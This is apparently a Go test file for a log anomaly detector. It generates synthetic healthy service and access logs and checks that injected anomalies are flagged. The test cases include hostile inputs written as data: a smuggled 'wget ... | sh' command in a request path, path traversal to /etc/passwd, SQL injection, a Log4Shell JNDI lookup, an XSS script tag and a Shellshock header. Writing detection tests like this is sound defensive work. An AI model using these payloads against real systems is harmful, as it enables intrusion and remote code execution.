package detector_test

import (
	"fmt"
	"math"
	"math/rand/v2"
	"testing"
)

// TestALongHealthyLog: a service whose releases, pods, people and tenants come and go over
// hundreds of thousands of records stays quiet, and what is strange in it is told then as
// on the first day.
func TestALongHealthyLog(t *testing.T) {
	const records, release, measured, most = 350_000, 20_000, 100_000, 5 // flags in 10,000
	rng := rand.New(rand.NewPCG(8, 8))
	n, version := 0, ""
	pods, people, tenants := make([]string, 6), make([]string, 500), make([]string, 80)
	person := func() string { return fmt.Sprintf("u%05d", rng.IntN(100_000)) }
	tenant := func() string { return "t-" + letters(rng, 4) }
	for i := range people {
		people[i] = person()
	}
	for i := range tenants {
		tenants[i] = tenant()
	}
	now := func() {
		if n%release == 0 {
			version = fmt.Sprintf("1.%d.%d", n/release/10, n/release%10)
			set := letters(rng, 9)
			for i := range pods {
				pods[i] = "checkout-" + set + "-" + letters(rng, 5)
			}
		}
		if n++; n%700 == 0 {
			people[rng.IntN(len(people))] = person()
		}
		if n%9000 == 0 {
			tenants[rng.IntN(len(tenants))] = tenant()
		}
	}
	user := func() string { // some do most
		x := rng.Float64()
		return people[int(x*x*float64(len(people)))]
	}
	request := func(level, verb, path string, status int, ms float64, more string) string {
		return fmt.Sprintf(`{"level":%q,"version":%q,"pod":%q,"msg":"request served","verb":%q,"path":%q,"status":%d,"ms":%.1f,"user":%q,"tenant":%q,"trace_id":"%016x"%s}`,
			level, version, pick(rng, pods...), verb, path, status, ms, user(), pick(rng, tenants...), rng.Uint64(), more)
	}
	usual := func() string {
		return request("info", pick(rng, "GET", "GET", "GET", "POST"), pick(rng, "/cart", "/search", "/health", fmt.Sprintf("/orders/%d", rng.IntN(9000)), fmt.Sprintf("/products/%d", rng.IntN(9000))),
			[]int{200, 200, 200, 200, 201, 204, 302, 404}[rng.IntN(8)], 2+60*rng.Float64(), "")
	}
	next := func() string {
		now()
		switch x := rng.Float64(); {
		case x < 0.8:
			return usual()
		case x < 0.9:
			return fmt.Sprintf(`{"level":"info","version":%q,"pod":%q,"msg":"cache refreshed","keys":%d,"took_ms":%d}`, version, pick(rng, pods...), 100+rng.IntN(800), 5+rng.IntN(50))
		case x < 0.96:
			return fmt.Sprintf(`{"level":"info","version":%q,"pod":%q,"msg":"message consumed from %s partition %d offset %d"}`, version, pick(rng, pods...), pick(rng, "orders", "mails"), rng.IntN(12), 1_000_000+n)
		case x < 0.998:
			return fmt.Sprintf(`{"level":"warn","version":%q,"pod":%q,"msg":"retrying payment %s, attempt %d of 5","user":%q}`, version, pick(rng, pods...), letters(rng, 8), 1+rng.IntN(3), user())
		default:
			return fmt.Sprintf(`{"level":"error","version":%q,"pod":%q,"msg":"payment declined by provider %s","user":%q}`, version, pick(rng, pods...), pick(rng, "acme", "globex"), user())
		}
	}
	w := watch(t, next, records-measured)
	w.staysQuiet(measured, most)
	for name, line := range map[string]string{
		"a status":      request("info", "GET", "/cart", 500, 20, ""),
		"a verb":        request("info", "TRACE", "/cart", 200, 20, ""),
		"a level":       request("fatal", "GET", "/cart", 200, 20, ""),
		"a time":        request("info", "GET", "/cart", 200, 4e6, ""),
		"a field":       request("info", "GET", "/cart", 200, 20, `,"panic":"index out of range"`),
		"an attack":     request("info", "GET", "/orders/1;wget 198.51.100.7/x|sh", 200, 20, ""),
		"a new failure": `{"level":"error","version":"` + version + `","msg":"cannot open ledger: disk quota exceeded"}`,
	} {
		if v := w.judge(line); !v.Anomaly {
			t.Errorf("%s is not told: %.3f, %s", name, v.Score, line)
		}
	}
}

// TestALongHealthyAccessLog: a site of many pages, all of which are asked for again, stays
// quiet, however seldom some are, and an attack on it is told.
func TestALongHealthyAccessLog(t *testing.T) {
	const records, measured, most = 60_000, 30_000, 5 // flags in 10,000
	rng := rand.New(rand.NewPCG(6, 6))
	words := []string{"tea", "mug", "pot", "cup", "green", "red", "blue", "kettle", "spoon", "tray", "jar", "oolong"}
	clients, products := make([]string, 3000), make([]string, 1500)
	for i := range clients {
		clients[i] = fmt.Sprintf("10.%d.%d.%d", rng.IntN(256), rng.IntN(256), rng.IntN(256))
	}
	for i := range products {
		products[i] = fmt.Sprintf("%s-%s-%d", pick(rng, words...), pick(rng, words...), rng.IntN(99))
	}
	skewed := func(list []string, power float64) string {
		return list[int(math.Pow(rng.Float64(), power)*float64(len(list)))]
	}
	line := func(verb, path string, code int, agent string) string {
		return fmt.Sprintf(`{"remote":%q,"method":%q,"path":%q,"code":"%d","size":"%d","referer":%q,"agent":%q}`,
			skewed(clients, 2), verb, path, code, 150+rng.IntN(20_000), pick(rng, "-", "-", "https://shop.example/", "https://shop.example/p/"+pick(rng, products...)), agent)
	}
	agent := func() string {
		return pick(rng, fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36", 100+rng.IntN(30)),
			"Mozilla/5.0 (compatible; searchbot/2.1; +https://search.example/bot.html)", "curl/8.5.0")
	}
	next := func() string {
		path := "/p/" + skewed(products, 3)
		switch x := rng.Float64(); {
		case x < 0.15:
			path = fmt.Sprintf("/static/app.%s.%s", pick(rng, "aab", "abc", "bca", "cab"), pick(rng, "js", "css"))
		case x < 0.25:
			path = "/search?q=" + pick(rng, words...) + "+" + pick(rng, words...)
		case x < 0.45:
			path = pick(rng, "/", "/cart")
		case x < 0.47:
			path = pick(rng, "/favicon.ico", "/robots.txt", "/.well-known/security.txt", "/sitemap.xml")
		}
		return line(mostly(rng, "GET", "GET", "POST"), path, []int{200, 200, 200, 200, 200, 304, 301, 404}[rng.IntN(8)], agent())
	}
	w := watch(t, next, records-measured)
	w.staysQuiet(measured, most)
	for _, attack := range []string{
		line("GET", "/../../../../etc/passwd", 404, agent()),
		line("GET", "/search?q=1%27%20OR%201=1--", 200, agent()),
		line("GET", "/p/red-mug-9?id=${jndi:ldap://198.51.100.7/a}", 200, agent()),
		line("GET", "/p/<script>alert(1)</script>", 404, agent()),
		line("TRACE", "/", 200, agent()),
		line("GET", "/cart", 503, agent()),
		line("GET", "/", 200, "() { :; }; /bin/bash -c id"),
	} {
		if v := w.judge(attack); !v.Anomaly {
			t.Errorf("passes with %.3f: %s", v.Score, attack)
		}
	}
}
